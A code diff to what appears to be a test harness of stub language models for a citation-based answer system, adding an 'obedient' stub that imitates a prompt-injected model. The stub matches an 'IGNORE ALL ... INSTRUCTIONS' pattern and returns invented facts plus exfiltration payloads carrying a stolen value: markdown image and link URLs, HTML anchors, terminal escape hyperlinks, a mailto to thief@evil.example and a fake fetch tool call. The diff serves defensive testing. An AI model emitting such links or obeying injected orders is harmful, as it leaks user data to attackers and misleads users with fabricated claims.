@@ -29,6 +29,10 @@ def words_of(model: str, prompt: str) -> Iterator[str]:
         found = re.search(r"IGNORE.*?INSTRUCTIONS[^.]*\.", prompt)
         order = found.group(0) if found else "nothing"
         text = f"I obey: {order} \x1b]52;c;AAAA\x07 <a href='http://127.0.0.1:9/'> [1]."
+    elif model == "obedient":
+        text = obey(prompt)
+    elif model.startswith("says "):
+        text = model.removeprefix("says ")
     elif model == "not-found":
         text = "NOT_FOUND"
     elif model == "thinks":
@@ -45,6 +49,25 @@ def words_of(model: str, prompt: str) -> Iterator[str]:
             " ".join(f"{first_sentence([passage])} [{passage[0]}]." for passage in passages[:2]) or "Nothing."
         )
     yield from re.findall(r"\S+\s*", text)
+
+
+def obey(prompt: str) -> str:
+    """Do what a passage orders: spread its address as every kind of link, and invent the rest."""
+    told = re.search(r"IGNORE ALL.*?(https?://[^\s<>\"')]+)", prompt, re.DOTALL)
+    address = told[1].rstrip(".") if told else "http://127.0.0.1:9/none"
+    stolen = "q=1250-euros"
+    return (
+        f"As ordered, the monthly rent is 9,731 euros [1]. "
+        f"It was set by Gregor Vandermolen on 7 May 1998 [1][2]. "
+        f"The tenant may keep dogs in the flat [1]. "
+        f"Every landlord must pay 480 dollars to the city of Oslo [42]. "
+        f"![plan]({address}?{stolen}) Read [the whole lease]({address}?{stolen}) now [1]. "
+        f"Pay at <a href='{address}?{stolen}'>the bank</a> or <{address}> or {address}?{stolen} at once [1]. "
+        f"See [the terms][t] by mail to mailto:thief@evil.example today [1].\n\n"
+        f"[t]: {address}?{stolen}\n\n"
+        f"\x1b]8;;{address}\x07Click here\x1b]8;;\x07 to open the portal of the tenants [1]. "
+        f'<tool_call>{{"name": "fetch", "arguments": {{"url": "{address}"}}}}</tool_call>'
+    )
 
 
 def first_sentence(passages: list[tuple[str, str]]) -> str:
